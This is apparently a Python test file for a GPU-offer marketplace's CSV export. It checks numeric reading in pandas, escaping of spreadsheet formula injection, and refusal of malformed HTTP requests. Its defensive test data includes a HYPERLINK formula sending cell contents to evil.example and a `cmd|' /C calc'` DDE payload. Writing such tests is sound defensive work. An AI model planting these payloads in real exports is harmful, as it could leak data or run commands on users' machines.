"""A CSV that pandas reads as numbers and no spreadsheet runs as a formula, at its real address."""

import csv
import io
import json
import socket
from collections.abc import Iterator
from urllib.parse import urlsplit
from urllib.request import urlopen

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.columns import EXPORT_FACTS, FACTS
from app.domain.metrics import METRICS
from app.web.exports import harmless
from app.web.main import create_app
from tests.web import market
from tests.web.conftest import serve, settings_for
from tests.web.reading import get, read_csv
from tests.web.server import listening

ALL = ",".join(METRICS)
# OWASP ASVS 1.2.10 names =, +, -, @, tab and null; line ends and the full-width forms are ours.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Address of the filled market on a real port."""
    url = f"sqlite:///{tmp_path_factory.mktemp('exports') / 'market.db'}"
    market.fill(url)
    with listening(create_app(settings_for(url), clock=lambda: market.NOW)) as address:
        yield address


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    """Ask the loopback address directly, whatever proxy the machine has."""
    monkeypatch.setenv("no_proxy", "127.0.0.1")


# ---------------------------------------------------------------- pandas


def test_pandas_reads_every_figure_as_a_number(base: str) -> None:
    table = pd.read_csv(f"{base}/offers.csv?columns={ALL}&baseline=h100-sxm")
    numbers = [key for key in table.columns if key in METRICS or (key in FACTS and FACTS[key].numeric)]
    assert set(METRICS) <= set(numbers)
    assert len(numbers) == len(METRICS) + 8
    kinds = {key: str(table[key].dtype) for key in numbers}
    assert {key: kind for key, kind in kinds.items() if not kind.startswith(("int", "float"))} == {}
    assert str(table["form_factor_assumed"].dtype) == "bool"
    assert len(table) > 100
    assert (table["usd_per_gpu_hour"].dropna() > 0).all()
    # Arithmetic works as it stands: the article's formula, in pandas.
    again = table["usd_per_gpu_hour"] / table["memory_bandwidth_tb_s"]
    known = table["usd_per_tbs_hour"].notna()
    assert (again[known] - table["usd_per_tbs_hour"][known]).abs().max() < 1e-12


def test_a_single_page_and_an_empty_answer_are_tables_too(base: str) -> None:
    assert len(pd.read_csv(f"{base}/offers.csv?page=1&per_page=7")) == 7
    nothing = pd.read_csv(f"{base}/offers.csv?q=nothing+like+it")
    assert nothing.empty
    assert tuple(nothing.columns[: len(EXPORT_FACTS)]) == EXPORT_FACTS


def test_pandas_reads_what_the_json_says(base: str) -> None:
    query = f"columns={ALL}&baseline=h100-sxm&sort=-tdp_w&gpu=h100"
    table = pd.read_csv(f"{base}/offers.csv?{query}")
    with urlopen(f"{base}/offers.json?{query}") as answer:  # noqa: S310 - our own loopback address
        rows = json.load(answer)["rows"]
    for key in METRICS:
        said = [None if pd.isna(value) else float(value) for value in table[key]]
        assert said == [None if row[key] is None else float(row[key]) for row in rows], key


def test_a_header_s_name_ends_in_its_unit() -> None:
    units = {"days": ("_days_min", "_days_max"), "GB": ("_gb", "_gb_as_written"), "W": ("_w",)}
    for key, fact in FACTS.items():
        assert not fact.unit or key.endswith(units[fact.unit])
    for key, metric in METRICS.items():
        assert not metric.unit.startswith("$") or key.startswith("usd_per_")


# ---------------------------------------------------------------- spreadsheets


@pytest.mark.parametrize("start", STARTS)
def test_a_text_that_begins_a_formula_is_shown_and_not_run(start: str) -> None:
    for text in (f"{start}1+1", f"  {start}HYPERLINK(1)", start):
        assert harmless(text) == f"'{text}"


@given(st.text(max_size=20))
def test_no_text_begins_with_a_sign_and_every_text_can_be_got_back(text: str) -> None:
    made = harmless(text)
    assert not made.lstrip(" ").startswith(STARTS)
    assert made in {text, f"'{text}"}


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"cheap")'


def test_what_a_provider_writes_cannot_run_in_a_spreadsheet(database_url: str) -> None:
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d")
    offers = [
        market.offer(
            "acme",
            f"{start}cmd|' /C calc'!A{number}",
            None,
            "1",
            accelerator_as_written=f"{start}SUM(A1:A9)",
            region=f"{start}1+1",
            tier=f"{start}2",
            fragment=f"{start}{FORMULA}",
            source_url=f"{start}{FORMULA}",
        )
        for number, start in enumerate(starts)
    ]
    market.fill(database_url, market=[("acme", market.at(20), offers)])
    with serve(database_url) as client:
        text = get(client, "/offers.csv")
    lines = read_csv(text)
    assert len(lines) == len(starts)
    written = {(each.sku, each.region, each.fragment, each.tier, each.source_url) for each in offers}
    got = {
        tuple(line[key].removeprefix("'") for key in ("sku", "region", "fragment", "tier", "source_url"))
        for line in lines
    }
    assert got == written
    for line in csv.reader(io.StringIO(text, newline="")):
        assert not [cell for cell in line if cell.lstrip(" ").startswith(STARTS)]


def test_numbers_are_not_quoted_and_texts_with_commas_are(base: str) -> None:
    with urlopen(f"{base}/offers.csv?region=eu%2C+north&provider=acme") as answer:  # noqa: S310 - our own loopback address
        text = answer.read().decode()
    assert '"eu, north"' in text
    assert ",2.99," in text
    assert "'" not in text


# ---------------------------------------------------------------- the wire


@pytest.mark.parametrize(
    "request_line",
    [
        b"GET /?q=\xff HTTP/1.1",
        b"GET /?q=%ff HTTP/1.1",
        b"GET /offers.csv?\xc3\x28=1 HTTP/1.1",
        b"GET /\xff HTTP/1.1",
        b"GET /%ff HTTP/1.1",
        b"GET /?" + b"x=y&" * 10_000 + b" HTTP/1.1",
        b"GET /offers/" + b"9" * 20_000 + b" HTTP/1.1",
        b"GET http://elsewhere.example/ HTTP/1.1",
        b"OPTIONS * HTTP/1.1",
        b"TRACE / HTTP/1.1",
    ],
)
def test_odd_requests_on_the_wire_are_refused_and_the_server_lives(base: str, request_line: bytes) -> None:
    where = urlsplit(base)
    with socket.create_connection((where.hostname, where.port), timeout=5) as wire:
        wire.sendall(request_line + b"\r\nHost: test\r\nConnection: close\r\n\r\n")
        status = wire.makefile("rb").readline()
    assert status.split()[1] in {b"200", b"400", b"404", b"405", b"414", b"422"}
    with urlopen(f"{base}/healthz") as answer:  # noqa: S310 - our own loopback address
        assert answer.read() == b"ok\n"
